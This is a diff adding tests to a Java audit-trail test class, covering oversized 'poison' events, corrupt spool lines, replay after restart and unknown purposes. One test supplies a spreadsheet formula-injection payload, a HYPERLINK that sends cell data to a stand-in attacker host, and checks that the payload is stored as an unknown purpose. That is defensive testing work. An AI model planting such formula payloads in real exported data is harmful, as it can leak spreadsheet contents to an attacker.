@@ -12,6 +12,7 @@ import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
 import java.util.UUID;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.CountDownLatch;
@@ -58,6 +59,8 @@ import static org.awaitility.Awaitility.await;
 class AuditTrailTests {
 
 	static final JsonMapper JSON = JsonMapper.builder().build();
+
+	static final Set<String> KNOWN_PURPOSES = Set.of("account-management", "support-case");
 
 	@TempDir
 	Path spoolDirectory;
@@ -207,6 +210,104 @@ class AuditTrailTests {
 	}
 
 	@Test
+	void aPoisonEventAmongOthersIsWrittenAsMalformedAndTheOthersAsMade() {
+		AuditEvent poison = poison("mallory");
+		List<AuditEvent> others = new ArrayList<>();
+		for (int i = 0; i < 100; i++) {
+			others.add(event("user-" + i));
+		}
+		List<AuditEvent> all = new ArrayList<>(others);
+		all.add(50, poison);
+
+		Flux.fromIterable(all).flatMap(this.trail::record).blockLast(Duration.ofSeconds(10));
+
+		assertThat(this.repository.count()).isEqualTo(101);
+		assertThat(spoolDepth()).isZero();
+		JsonNode stored = stored(poison);
+		assertThat(stored.path("malformed").asString()).startsWith("refused by the database: ")
+			.contains("SQLState 22001")
+			.contains("1 record reference(s) too long to keep");
+		assertThat(stored.path("records").toString()).isEqualTo("[\"support:310000\"]");
+		assertThat(stored.path("decision").asString()).isEqualTo(AuditEvent.ALLOW);
+		assertThat(stored(others.get(0)).has("malformed")).isFalse();
+		assertThat(this.meters.get("gateway.audit.events.malformed").counter().count()).isEqualTo(1);
+	}
+
+	@Test
+	void aBatchWithSeveralPoisonEventsKeepsEveryOtherEventIntact() {
+		List<AuditEvent> all = new ArrayList<>();
+		for (int i = 0; i < 18; i++) {
+			all.add((i % 6 == 0) ? poison("mallory-" + i) : event("user-" + i));
+		}
+		this.database.hold();
+		List<CompletableFuture<Void>> recorded = all.stream().map((e) -> this.trail.record(e).toFuture()).toList();
+		// One batch: the writer holds them all while it waits for the database.
+		this.database.release();
+		CompletableFuture.allOf(recorded.toArray(CompletableFuture[]::new)).join();
+
+		assertThat(all).allSatisfy(
+				(event) -> assertThat(stored(event).has("malformed")).isEqualTo(event.subject().startsWith("mallory")));
+		assertThat(this.meters.get("gateway.audit.events.malformed").counter().count()).isEqualTo(3);
+	}
+
+	@Test
+	void aPoisonEventInTheSpoolIsWrittenAsMalformedAfterARestartAndTheRestAsMade() throws IOException {
+		this.database.down.set(true);
+		AuditEvent poison = poison("mallory");
+		List<AuditEvent> spooled = new ArrayList<>();
+		for (int i = 0; i < 10; i++) {
+			spooled.add(event("user-" + i));
+		}
+		spooled.add(poison);
+		Flux.fromIterable(spooled).concatMap(this.trail::record).blockLast(Duration.ofSeconds(10));
+		this.trail.stop();
+		assertThat(spoolDepth()).isEqualTo(11);
+		this.database.down.set(false);
+
+		this.trail = trail(DataSize.ofMegabytes(1));
+
+		// (The spool's gauge is the first trail's, so the file says what is left.)
+		await().atMost(Duration.ofSeconds(5)).until(() -> this.repository.count() == 11 && spoolFileEmpty());
+		assertThat(stored(poison).has("malformed")).isTrue();
+		// Later events go to the database, not to the spool behind the poison.
+		this.trail.record(event("later")).block(Duration.ofSeconds(5));
+		assertThat(this.repository.count()).isEqualTo(12);
+		assertThat(spoolFileEmpty()).isTrue();
+	}
+
+	@Test
+	void anUnreadableSpoolLineIsRecordedAsMalformedAndTheRestReplayed() throws IOException {
+		this.trail.stop();
+		AuditEvent spooled = event("alice");
+		Files.writeString(this.spoolDirectory.resolve("audit-spool.jsonl"),
+				JSON.writeValueAsString(spooled) + "\n{\"id\": \"cut short by a cr\n");
+
+		this.trail = trail(DataSize.ofMegabytes(1));
+
+		await().atMost(Duration.ofSeconds(5)).until(() -> this.repository.count() == 2 && spoolFileEmpty());
+		assertThat(stored(spooled).has("malformed")).isFalse();
+		assertThat(this.meters.get("gateway.audit.events.malformed").counter().count()).isEqualTo(1);
+		JsonNode unreadable = JSON.readTree(
+				this.repository.find(new AuditQuery(null, "unknown", null, null, null, null, null), 0).blockFirst());
+		assertThat(unreadable.path("malformed").asString()).startsWith("unreadable spool line of 25 characters");
+	}
+
+	@Test
+	void aPurposeThePolicyDoesNotKnowIsRecordedAsUnknown() {
+		AuditEvent formula = AuditEvent.of("mallory", "view")
+			.purpose("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
+			.decision(AuditEvent.DENY, "unknown-purpose", null, null)
+			.build(400);
+		AuditEvent known = event("alice");
+
+		this.trail.record(formula).block();
+		this.trail.record(known).block();
+
+		assertThat(stored(formula).path("purpose").asString()).isEqualTo(AuditEvent.UNKNOWN_PURPOSE);
+		assertThat(stored(known).path("purpose").asString()).isEqualTo("account-management");
+	}
+
+	@Test
 	void eventsAreStoredAsNamesNeverValues() throws IOException {
 		this.trail.record(event("alice")).block();
 
@@ -220,7 +321,7 @@ class AuditTrailTests {
 		AuditEvent recent = event("recent");
 		AuditEvent old = new AuditEvent(UUID.randomUUID(), Instant.now().minus(Duration.ofDays(500)), "old", null,
 				List.of(), null, null, "view", List.of("crm:ACC-000001"), Map.of(), List.of(), List.of(), List.of(),
-				AuditEvent.ALLOW, "granted", null, null, null, 200, 1, null, null, null);
+				AuditEvent.ALLOW, "granted", null, null, null, 200, 1, null, null, null, null);
 		this.trail.record(recent).block();
 		this.trail.record(old).block();
 
@@ -243,9 +344,30 @@ class AuditTrailTests {
 		AuditProperties properties = new AuditProperties(true, true, 20, 1000, Duration.ofMillis(300),
 				Duration.ofDays(400), Duration.ofHours(1), new AuditProperties.Spool(this.spoolDirectory, spool));
 		AuditTrail started = new AuditTrail(this.repository, new AuditSpool(this.spoolDirectory, spool.toBytes()), JSON,
-				properties, this.meters);
+				properties, KNOWN_PURPOSES::contains, this.meters);
 		started.start();
 		return started;
+	}
+
+	private JsonNode stored(AuditEvent event) {
+		return JSON
+			.readTree(this.repository.find(new AuditQuery(null, event.subject(), null, null, null, null, null), 0)
+				.filter((json) -> JSON.readTree(json).path("id").asString().equals(event.id().toString()))
+				.blockFirst());
+	}
+
+	/** An event with a record id longer than the schema holds. */
+	static AuditEvent poison(String subject) {
+		return AuditEvent.of(subject, "view")
+			.caller(UUID.randomUUID().toString(), List.of("sales-rep"), "customer-gateway-demo")
+			.purpose("account-management")
+			.records(List.of("crm:" + "x".repeat(300), "support:310000"))
+			.decision(AuditEvent.ALLOW, "granted", "2026-11-25.1", null)
+			.build(200);
+	}
+
+	private boolean spoolFileEmpty() throws IOException {
+		return Files.size(this.spoolDirectory.resolve("audit-spool.jsonl")) == 0;
 	}
 
 	private double spoolDepth() {
